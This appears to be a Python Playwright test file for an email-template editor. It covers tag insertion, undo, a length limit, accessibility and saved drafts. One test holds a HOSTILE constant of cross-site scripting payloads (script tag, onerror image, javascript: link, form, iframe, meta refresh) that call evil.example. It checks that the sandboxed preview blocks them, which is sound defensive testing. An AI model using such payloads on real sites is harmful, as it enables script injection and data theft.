"""A letter is written by clicking and typing, seen as a customer gets it, and what is hostile in it does nothing."""

import re
from typing import Any

from playwright.sync_api import expect

from cdp import db, templates
from cdp.models import BodyFormat, utc_now
from tests.browser.conftest import Screen, Server, axe
from tests.makers import make_customer

HOSTILE = """
<script>top.document.title = "taken"; fetch("https://evil.example/script")</script>
<img src="data:," onerror="top.document.title = 'taken'; fetch('https://evil.example/onerror')">
<a id="link" href="javascript:top.document.title='taken'">here</a> <a id="top" target="_top" href="/customers">out</a>
<form action="https://evil.example/form"><button id="send">send</button></form>
<iframe src="https://evil.example/frame"></iframe>
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
"""


def write(server: Server) -> str:
    """A customer and a saved template; its link."""
    with db.session(server.database_url) as session:
        if not templates.all(session):
            make_customer(session, first_name="Zoë", last_name="Abel", email="zoe@example.com")
            templates.create(
                session, name="Greeting", format=BodyFormat.MARKDOWN, subject="Good day", now=utc_now(),
                body="Hello {{ customer.first_name }}. [Leave]({{ unsubscribe_url }})",
            )  # fmt: skip
        return f"/templates?id={templates.all(session)[0].id}"


def letter(page: Screen) -> Any:
    """What stands in the frame of the preview."""
    return page.frame_locator("iframe[title^='The letter as']")


def test_a_tag_goes_where_the_caret_is_and_a_fault_is_marked_in_its_line(server: Server, page: Screen) -> None:
    page.open(write(server))
    expect(letter(page).get_by_text("Hello Zoë.")).to_be_visible()
    page.get_by_label("Subject").fill("Dear ")
    page.get_by_role("button", name="Insert a tag").click()
    page.get_by_label("If it is empty, write").fill("friend")
    page.get_by_label("Search tags").fill("first name")
    page.keyboard.press("ArrowDown")
    page.keyboard.press("Enter")
    expect(page.get_by_label("Subject")).to_have_value('Dear {{ customer.first_name | default: "friend" }}')
    expect(page.get_by_text("Dear Zoë")).to_be_visible()
    page.get_by_label("Body in Markdown").press("Control+End")
    page.get_by_role("button", name="Image", exact=True).click()
    page.get_by_label("Address of the picture").fill("data:image/gif;base64,R0lGODlhAQABAAAAACw=")
    page.get_by_label("What it shows").fill("Red socks")
    page.get_by_role("button", name="Insert", exact=True).click()
    expect(letter(page).get_by_alt_text("Red socks")).to_be_attached()
    body = page.get_by_label("Body in Markdown")
    before = body.input_value()
    assert "\n\n![Red socks]" in before  # a paragraph of its own
    body.press("Control+End")
    page.keyboard.type("\n{{ customer.first_name | uper }}")
    mark = page.get_by_role("button", name=re.compile("^Line [2-9]$"))
    expect(mark).to_be_visible()
    expect(letter(page).get_by_alt_text("Red socks")).to_be_attached()  # the last good letter stays
    expect(page.get_by_role("button", name="Save template")).to_be_disabled()
    page.settle()
    axe(page)
    for _ in range(60):
        if body.input_value() == before:
            break
        body.press("Control+z")
    expect(mark).to_be_hidden()
    page.get_by_role("button", name="Save template").click()
    expect(page.get_by_text(re.compile(r"Saved \d"))).to_be_visible()
    page.get_by_role("tab", name="Versions").click()
    page.get_by_role("button", name="Restore 1").click()
    expect(page.get_by_text("Version 1 is in the source, not saved yet.")).to_be_visible()
    page.get_by_role("button", name="Undo", exact=True).click()
    expect(body).to_have_value(before)
    expect(page.get_by_text("Changed, not saved")).to_be_hidden()


def test_a_megabyte_in_one_line_is_refused_in_a_sentence_and_can_be_taken_back(server: Server, page: Screen) -> None:
    page.open(write(server))
    body = page.get_by_label("Body in Markdown")
    put = """(field, text) => { field.value = text; field.dispatchEvent(new Event("input", { bubbles: true })); }"""
    body.evaluate(put, "<td style='a" + "a" * 1_000_000)
    expect(page.get_by_text(re.compile("It is too long: 250,001 of 250,000")).first).to_be_visible()
    expect(page.get_by_role("button", name="Save template")).to_be_disabled()
    body.evaluate(put, "Short again.")
    expect(letter(page).get_by_text("Short again.")).to_be_visible()
    expect(page.get_by_role("button", name="Save template")).to_be_enabled()


def test_a_hostile_letter_does_nothing(server: Server, page: Screen) -> None:
    page.open(write(server))
    expect(letter(page).get_by_text("Hello Zoë")).to_be_visible()
    title = page.title()
    frame = page.locator("iframe[title^='The letter as']")
    assert frame.get_attribute("sandbox") == ""
    asked: list[str] = []
    page.page.on("request", lambda request: asked.append(request.url))
    # Past all that templates take out: what is tested is the frame.
    frame.evaluate("(frame, html) => { frame.srcdoc += html }", HOSTILE)
    expect(letter(page).get_by_text("here")).to_be_visible()
    for place in ("#link", "#top", "#send"):
        letter(page).locator(place).click()
    page.wait_for_timeout(600)
    assert page.title() == title and "/templates" in page.url
    assert not [url for url in asked if "evil.example" in url]
    expect(letter(page).get_by_text("here")).to_be_visible()
    # The browser says in the console what it refused; that is the only thing that may be said there.
    assert all(re.search("Content Security Policy|sandboxed|^$", said.strip()) for said in page.problems), page.problems
    page.problems.clear()


def test_the_screens_of_templates_can_be_read_by_all(
    server: Server, page: Screen, dark_page: Screen, phone: Screen
) -> None:
    link = write(server)
    for screen, path in ((page, "/templates"), (dark_page, link)):
        screen.open(path)
        axe(screen)
    phone.open(link)
    assert phone.evaluate("document.documentElement.scrollWidth") <= 390


def test_words_typed_just_before_the_screen_is_left_are_still_there(server: Server, page: Screen) -> None:
    page.open(write(server))
    page.get_by_label("Subject").fill("Half a thought")
    page.get_by_role("link", name="Dashboard").click()
    expect(page.get_by_label("Subject")).to_be_hidden()
    page.settle()
    page.get_by_role("link", name="Templates").click()
    expect(page.get_by_role("link", name="Greeting")).to_be_visible()
    page.settle()
    page.get_by_role("link", name="Greeting").click()
    page.wait_for_url("**id=*")
    page.settle()
    expect(page.get_by_label("Subject")).to_have_value("Half a thought")
    expect(page.get_by_text("Changed, not saved")).to_be_visible()
